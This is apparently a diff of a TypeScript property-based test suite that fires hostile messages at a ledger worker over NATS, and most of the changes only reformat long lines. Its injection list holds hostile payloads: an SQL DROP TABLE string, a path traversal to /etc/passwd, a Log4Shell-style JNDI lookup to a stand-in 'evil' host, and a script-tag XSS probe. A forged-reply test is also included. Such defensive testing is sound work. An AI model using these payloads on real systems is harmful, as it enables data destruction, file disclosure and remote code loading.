@@ -28,7 +28,16 @@ afterAll(async () => {
   await stack?.stop();
 });
 
-const INJECTIONS = ["'; DROP TABLE movements; --", 'x\u0000y', '../../../../etc/passwd', '${jndi:ldap://evil/a}', '<script>alert(1)</script>', '\u202e\u0301', 'pool-X', '9'.repeat(400)];
+const INJECTIONS = [
+  "'; DROP TABLE movements; --",
+  'x\u0000y',
+  '../../../../etc/passwd',
+  '${jndi:ldap://evil/a}',
+  '<script>alert(1)</script>',
+  '\u202e\u0301',
+  'pool-X',
+  '9'.repeat(400),
+];
 const injection = fc.oneof(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 40 }), fc.stringMatching(/^[A-Za-z0-9_-]{1,20}$/));
 
 type Hostile = { readonly body: Uint8Array; readonly commandId?: string; readonly msgId?: string; readonly reply?: string; readonly partition: number };
@@ -43,7 +52,10 @@ const envelope = fc
     process: fc.oneof(fc.constantFrom(...ledgerProcesses.list().map((p) => p.name)), injection),
     memberId: fc.oneof(fc.stringMatching(/^FZ-[0-9]{1,3}$/), injection),
     potId: fc.oneof(fc.stringMatching(/^FZ-[0-9]{1,3}-pot$/), injection),
-    payload: fc.oneof(fc.jsonValue({ maxDepth: 4 }), fc.record({ amount: fc.oneof(injection, fc.constant('1.00'), fc.double().map(String)), currency: fc.oneof(injection, fc.constant('GBP')) })),
+    payload: fc.oneof(fc.jsonValue({ maxDepth: 4 }), fc.record({
+      amount: fc.oneof(injection, fc.constant('1.00'), fc.double().map(String)),
+      currency: fc.oneof(injection, fc.constant('GBP')),
+    })),
     effectiveDate: fc.oneof(fc.constant('2026-11-23'), injection),
     producedAt: fc.oneof(fc.constant('2026-11-23T09:00:00Z'), injection),
     forgeMsgId: fc.boolean(),
@@ -85,7 +97,10 @@ describe('hostile messages on the NATS subjects a worker reads', () => {
         for (const message of messages) {
           const headers = natsHeaders();
           if (message.reply !== undefined) headers.set(HEADER.reply, message.reply.replace(/[\r\n]/g, ' '));
-          const ack = await js.publish(subjects.commandSubject(message.partition), message.body, { headers, ...(message.msgId === undefined ? {} : { msgID: message.msgId.replace(/[\r\n]/g, ' ') }) });
+          const ack = await js.publish(subjects.commandSubject(message.partition), message.body, {
+            headers,
+            ...(message.msgId === undefined ? {} : { msgID: message.msgId.replace(/[\r\n]/g, ' ') }),
+          });
           if (!ack.duplicate) stored.push({ partition: message.partition, seq: ack.seq, commandId: message.commandId });
         }
         for (const request of lookups) {
@@ -104,7 +119,10 @@ describe('hostile messages on the NATS subjects a worker reads', () => {
       'every partition consumer done with the hostile messages',
       async () => {
         const consumers = await jsm.consumers.list(stream).next();
-        const done = consumers.length >= PARTITIONS && consumers.every((c) => c.num_pending === 0 && c.num_ack_pending === 0) && consumers.some((c) => c.delivered.stream_seq >= lastSeq);
+        const done =
+          consumers.length >= PARTITIONS &&
+          consumers.every((c) => c.num_pending === 0 && c.num_ack_pending === 0) &&
+          consumers.some((c) => c.delivered.stream_seq >= lastSeq);
         return done ? true : undefined;
       },
       { timeoutMs: 60_000 },
@@ -147,14 +165,28 @@ describe('hostile messages on the NATS subjects a worker reads', () => {
     const member = 'REPLY-1';
     const home = partitionOf(member, PARTITIONS);
     const target = (home + 1) % PARTITIONS;
-    const forged = [subjects.commandSubject(target), subjects.eventSubject(target), `${stack.nats.prefix}.custodian.instruction`, `${stack.nats.prefix}.reply.>`, `${stack.nats.prefix}.reply.x *`];
+    const forged = [
+      subjects.commandSubject(target),
+      subjects.eventSubject(target),
+      `${stack.nats.prefix}.custodian.instruction`,
+      `${stack.nats.prefix}.reply.>`,
+      `${stack.nats.prefix}.reply.x *`,
+    ];
     // A plain subscriber on every forged subject sees whatever the worker would publish there.
     const seen: string[] = [];
     const watches = forged.map((subject) => stack.nats.nc.subscribe(subject.replace(/ \*$/, ''), { callback: (_error, message) => { seen.push(message.subject); } }));
     const before = (await jsm.streams.info(subjects.commandStream)).state.messages;
     for (const [index, reply] of forged.entries()) {
       const commandId = `forged-reply-${index}`;
-      const command = { commandId, process: 'pot.open', memberId: member, potId: `${member}-pot-${index}`, payload: {}, effectiveDate: '2026-11-23', producedAt: '2026-11-23T09:00:00Z' };
+      const command = {
+        commandId,
+        process: 'pot.open',
+        memberId: member,
+        potId: `${member}-pot-${index}`,
+        payload: {},
+        effectiveDate: '2026-11-23',
+        producedAt: '2026-11-23T09:00:00Z',
+      };
       const headers = natsHeaders();
       headers.set(HEADER.reply, reply);
       await js.publish(subjects.commandSubject(home), text(JSON.stringify(command)), { headers, msgID: commandId });
@@ -171,7 +203,15 @@ describe('hostile messages on the NATS subjects a worker reads', () => {
     const sentinelNotices: unknown[] = [];
     const sentinelWatch = stack.nats.nc.subscribe(sentinelReply, { callback: (_error, message) => { sentinelNotices.push(message.json()); } });
     await stack.nats.nc.flush();
-    const sentinel = { commandId: 'forged-reply-sentinel', process: 'pot.open', memberId: member, potId: `${member}-pot-sentinel`, payload: {}, effectiveDate: '2026-11-23', producedAt: '2026-11-23T09:00:00Z' };
+    const sentinel = {
+      commandId: 'forged-reply-sentinel',
+      process: 'pot.open',
+      memberId: member,
+      potId: `${member}-pot-sentinel`,
+      payload: {},
+      effectiveDate: '2026-11-23',
+      producedAt: '2026-11-23T09:00:00Z',
+    };
     const sentinelHeaders = natsHeaders();
     sentinelHeaders.set(HEADER.reply, sentinelReply);
     await js.publish(subjects.commandSubject(home), text(JSON.stringify(sentinel)), { headers: sentinelHeaders, msgID: sentinel.commandId });
